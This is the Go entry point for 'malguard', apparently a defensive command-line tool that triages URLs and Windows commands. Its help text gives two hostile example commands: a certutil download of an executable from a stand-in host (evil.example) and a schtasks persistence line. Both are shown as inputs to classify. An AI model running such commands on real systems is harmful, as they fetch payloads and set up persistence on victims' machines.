// Command malguard is the triage CLI: URL and command classification, rule
// checks, offline dataset labeling, and an HTTP serve mode.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log"
	"os"
	"strings"

	"github.com/spf13/cobra"

	"github.com/triagekit/malguard/pkg/audit"
	"github.com/triagekit/malguard/pkg/config"
	"github.com/triagekit/malguard/pkg/label"
	"github.com/triagekit/malguard/pkg/ml"
	"github.com/triagekit/malguard/pkg/score"
	"github.com/triagekit/malguard/pkg/triage"
	"github.com/triagekit/malguard/pkg/trust"
)

// Build-time metadata, set via -ldflags.
var (
	Version   = "dev"
	GitCommit = "unknown"
	BuildDate = "unknown"
)

var (
	policyPath string
	verbose    bool
	jsonOutput bool

	unsafeMode bool

	labelIn      string
	labelOut     string
	labelObserve bool
	labelStore   bool

	serveAddr string
)

var rootCmd = &cobra.Command{
	Use:   "malguard",
	Short: "URL and command triage for security telemetry",
	Long: `MalGuard classifies URLs and Windows command strings into benign,
suspicious and malicious tiers. Deterministic policy (trust lists, regex
rules) resolves the clear cases; a local ONNX text classifier handles the
rest.

Examples:
  # Classify a URL
  malguard classify-url https://github.com/torvalds/linux

  # Classify a command (everything after the subcommand is the command)
  malguard classify-cmd certutil -urlcache -split -f http://evil.example/p.exe

  # Check which malicious rules fire, without touching the model
  malguard rule-check "schtasks /create /tn x /tr evil.exe"

  # Label a command dataset with the weighted risk scorer
  malguard label --in commands.csv --out commands_labeled.csv

  # Start the HTTP API
  malguard serve --addr :3000`,
	SilenceUsage: true,
}

func main() {
	if err := rootCmd.Execute(); err != nil {
		os.Exit(1)
	}
}

func init() {
	rootCmd.PersistentFlags().StringVar(&policyPath, "policy", "",
		"YAML policy file overlaying the default URL/command policy")
	rootCmd.PersistentFlags().BoolVarP(&verbose, "verbose", "v", false,
		"Verbose, human-readable output")
	rootCmd.PersistentFlags().BoolVar(&jsonOutput, "json", false,
		"Emit results as JSON")

	classifyCmdCmd.Flags().BoolVar(&unsafeMode, "unsafe", false,
		"Skip command validation (classify inputs the validator would reject)")

	// Commands under analysis carry their own dashed flags (-urlcache,
	// -split, /f ...). Flag parsing must stop at the first non-flag token so
	// those reach the classifier as text instead of erroring in pflag.
	classifyCmdCmd.Flags().SetInterspersed(false)
	ruleCheckCmd.Flags().SetInterspersed(false)

	labelCmd.Flags().StringVar(&labelIn, "in", "", "Input dataset CSV (required)")
	labelCmd.Flags().StringVar(&labelOut, "out", "", "Output labeled CSV (required)")
	labelCmd.Flags().BoolVar(&labelObserve, "observe", false,
		"Record each command in the Redis frequency store and use it for the history signal")
	labelCmd.Flags().BoolVar(&labelStore, "store", false,
		"Also persist labeled rows to Postgres (MALGUARD_POSTGRES_DSN)")
	_ = labelCmd.MarkFlagRequired("in")
	_ = labelCmd.MarkFlagRequired("out")

	labelURLsCmd.Flags().StringVar(&labelIn, "in", "", "Input URL dataset CSV (required)")
	labelURLsCmd.Flags().StringVar(&labelOut, "out", "", "Output cleaned CSV (required)")
	_ = labelURLsCmd.MarkFlagRequired("in")
	_ = labelURLsCmd.MarkFlagRequired("out")

	serveCmd.Flags().StringVar(&serveAddr, "addr", "",
		"Listen address (default from MALGUARD_LISTEN_ADDR)")

	rootCmd.AddCommand(classifyURLCmd)
	rootCmd.AddCommand(classifyCmdCmd)
	rootCmd.AddCommand(ruleCheckCmd)
	rootCmd.AddCommand(labelCmd)
	rootCmd.AddCommand(labelURLsCmd)
	rootCmd.AddCommand(serveCmd)
	rootCmd.AddCommand(versionCmd)
}

// loadConfig builds the runtime config from env plus the optional policy
// overlay.
func loadConfig() (*config.Config, error) {
	cfg := config.NewDefaultConfig()
	if policyPath != "" {
		if err := cfg.LoadPolicy(policyPath); err != nil {
			return nil, err
		}
	}
	if err := cfg.Validate(); err != nil {
		return nil, fmt.Errorf("invalid configuration: %w", err)
	}
	return cfg, nil
}

// newEngine wires the full pipeline for interactive and serve modes.
func newEngine(cfg *config.Config) (*triage.Engine, func(), error) {
	provider := ml.NewProvider(ml.Config{
		URLModelPath:    cfg.URLModelPath,
		CmdModelPath:    cfg.CmdModelPath,
		OnnxLibraryPath: cfg.OnnxLibraryPath,
	})
	engine := triage.New(cfg, provider)

	var auditLog *audit.Logger
	if cfg.AuditLogPath != "" {
		var err error
		auditLog, err = audit.New(cfg.AuditLogPath)
		if err != nil {
			return nil, nil, err
		}
		engine.SetAuditLog(auditLog)
	}

	if cfg.EnableSemantics {
		embed, err := provider.FeatureEmbedder(cfg.EmbedModelPath)
		if err != nil {
			log.Printf("[malguard] semantic index disabled: %v", err)
		} else {
			index, err := ml.NewSemanticIndex(embed)
			if err == nil {
				if err := index.Seed(context.Background(), nil); err != nil {
					log.Printf("[malguard] semantic index disabled: %v", err)
				} else {
					engine.SetSemanticIndex(index)
				}
			}
		}
	}

	cleanup := func() {
		if auditLog != nil {
			_ = auditLog.Close()
		}
		_ = provider.Close()
	}
	return engine, cleanup, nil
}

var classifyURLCmd = &cobra.Command{
	Use:   "classify-url <url>",
	Short: "Classify a single URL",
	Args:  cobra.ExactArgs(1),
	RunE: func(cmd *cobra.Command, args []string) error {
		cfg, err := loadConfig()
		if err != nil {
			return err
		}
		engine, cleanup, err := newEngine(cfg)
		if err != nil {
			return err
		}
		defer cleanup()

		ctx, cancel := context.WithTimeout(cmd.Context(), cfg.RequestTimeout)
		defer cancel()

		res, err := engine.ClassifyURL(ctx, args[0])
		if err != nil {
			return describeError(err)
		}
		printResult(res)
		return nil
	},
}

var classifyCmdCmd = &cobra.Command{
	Use:   "classify-cmd <command>...",
	Short: "Classify a command string",
	Long: `Classify a Windows shell/command string. Everything after the first
non-flag argument is joined into the command text, so quoting the whole
command is optional. Own flags such as --unsafe must come before the
command text.`,
	Args: cobra.MinimumNArgs(1),
	RunE: func(cmd *cobra.Command, args []string) error {
		cfg, err := loadConfig()
		if err != nil {
			return err
		}
		engine, cleanup, err := newEngine(cfg)
		if err != nil {
			return err
		}
		defer cleanup()

		ctx, cancel := context.WithTimeout(cmd.Context(), cfg.RequestTimeout)
		defer cancel()

		res, err := engine.ClassifyCommand(ctx, strings.Join(args, " "),
			triage.CommandOptions{Unsafe: unsafeMode})
		if err != nil {
			return describeError(err)
		}
		printResult(res)
		return nil
	},
}

var ruleCheckCmd = &cobra.Command{
	Use:   "rule-check <text>...",
	Short: "Run only the malicious rule tier over text",
	Args:  cobra.MinimumNArgs(1),
	RunE: func(cmd *cobra.Command, args []string) error {
		cfg, err := loadConfig()
		if err != nil {
			return err
		}
		// No model, audit log or semantic index needed for a rule check.
		engine := triage.New(cfg, nil)

		hits := engine.RuleCheck(strings.Join(args, " "))
		if len(hits) == 0 {
			fmt.Println("RULE -> Legitimate")
			return nil
		}
		fmt.Printf("RULE -> Suspicious (%s)\n", strings.Join(hits, ", "))
		return nil
	},
}

var labelCmd = &cobra.Command{
	Use:   "label",
	Short: "Label a command dataset with the weighted risk scorer",
	RunE: func(cmd *cobra.Command, args []string) error {
		cfg, err := loadConfig()
		if err != nil {
			return err
		}
		ctx := cmd.Context()

		scorer := score.New()
		var history *score.RedisHistory
		if labelObserve {
			if cfg.RedisAddr == "" {
				return fmt.Errorf("--observe requires MALGUARD_REDIS_ADDR")
			}
			history, err = score.NewRedisHistory(ctx, cfg.RedisAddr, cfg.HistoryThreshold)
			if err != nil {
				return err
			}
			defer history.Close()
			scorer = score.NewWithHistory(history)
		}

		labeler := label.NewLabeler(scorer)
		if history != nil {
			labeler.SetObserver(history)
		}

		var store *label.Store
		var pending []label.CommandRow
		if labelStore {
			if cfg.PostgresDSN == "" {
				return fmt.Errorf("--store requires MALGUARD_POSTGRES_DSN")
			}
			store, err = label.NewStore(ctx, cfg.PostgresDSN)
			if err != nil {
				return err
			}
			defer store.Close()
			labeler.SetSink(func(row label.CommandRow) error {
				pending = append(pending, row)
				return nil
			})
		}

		in, err := os.Open(labelIn)
		if err != nil {
			return fmt.Errorf("open dataset: %w", err)
		}
		defer in.Close()

		out, err := os.Create(labelOut)
		if err != nil {
			return fmt.Errorf("create output: %w", err)
		}
		defer out.Close()

		count, err := labeler.LabelCSV(ctx, in, out)
		if err != nil {
			return err
		}
		fmt.Printf("labeled %d commands -> %s\n", count, labelOut)

		if store != nil {
			n, err := store.SaveRows(ctx, pending)
			if err != nil {
				return err
			}
			fmt.Printf("persisted %d rows to postgres\n", n)
		}
		return nil
	},
}

var labelURLsCmd = &cobra.Command{
	Use:   "label-urls",
	Short: "Rewrite URL dataset labels to agree with the trust policy",
	RunE: func(cmd *cobra.Command, args []string) error {
		cfg, err := loadConfig()
		if err != nil {
			return err
		}

		in, err := os.Open(labelIn)
		if err != nil {
			return fmt.Errorf("open dataset: %w", err)
		}
		defer in.Close()

		out, err := os.Create(labelOut)
		if err != nil {
			return fmt.Errorf("create output: %w", err)
		}
		defer out.Close()

		changed, err := label.CleanURLLabels(trust.NewSet(cfg.TrustedDomains), in, out)
		if err != nil {
			return err
		}
		fmt.Printf("rewrote %d labels -> %s\n", changed, labelOut)
		return nil
	},
}

var versionCmd = &cobra.Command{
	Use:   "version",
	Short: "Print version information",
	Run: func(cmd *cobra.Command, args []string) {
		fmt.Printf("malguard version %s\n", Version)
		if verbose {
			fmt.Printf("  Git commit: %s\n", GitCommit)
			fmt.Printf("  Build date: %s\n", BuildDate)
		}
	},
}

func printResult(res *triage.Result) {
	if jsonOutput {
		data, err := json.MarshalIndent(res, "", "  ")
		if err != nil {
			fmt.Println(triage.Describe(res))
			return
		}
		fmt.Println(string(data))
		return
	}

	fmt.Println(triage.Describe(res))
	if !verbose {
		return
	}
	fmt.Printf("  source:  %s\n", res.Source)
	if res.TrustState != "" {
		fmt.Printf("  trust:   %s\n", res.TrustState)
	}
	if len(res.RuleHits) > 0 {
		fmt.Printf("  rules:   %s\n", strings.Join(res.RuleHits, ", "))
	}
	if res.Source == triage.SourceModel {
		fmt.Printf("  model:   %s (%.3f)\n", res.RawLabel, res.Confidence)
	}
	if res.Neighbor != nil {
		fmt.Printf("  nearest: %s (%.3f)\n", res.Neighbor.Technique, res.Neighbor.Similarity)
	}
	fmt.Printf("  latency: %.2fms\n", res.LatencyMs)
}

// describeError keeps CLI failures terse and actionable.
func describeError(err error) error {
	switch {
	case errors.Is(err, triage.ErrEmptyInput):
		return fmt.Errorf("input is empty after sanitization")
	case errors.Is(err, ml.ErrModelUnavailable):
		return fmt.Errorf("%v (set MALGUARD_URL_MODEL / MALGUARD_CMD_MODEL)", err)
	default:
		return err
	}
}
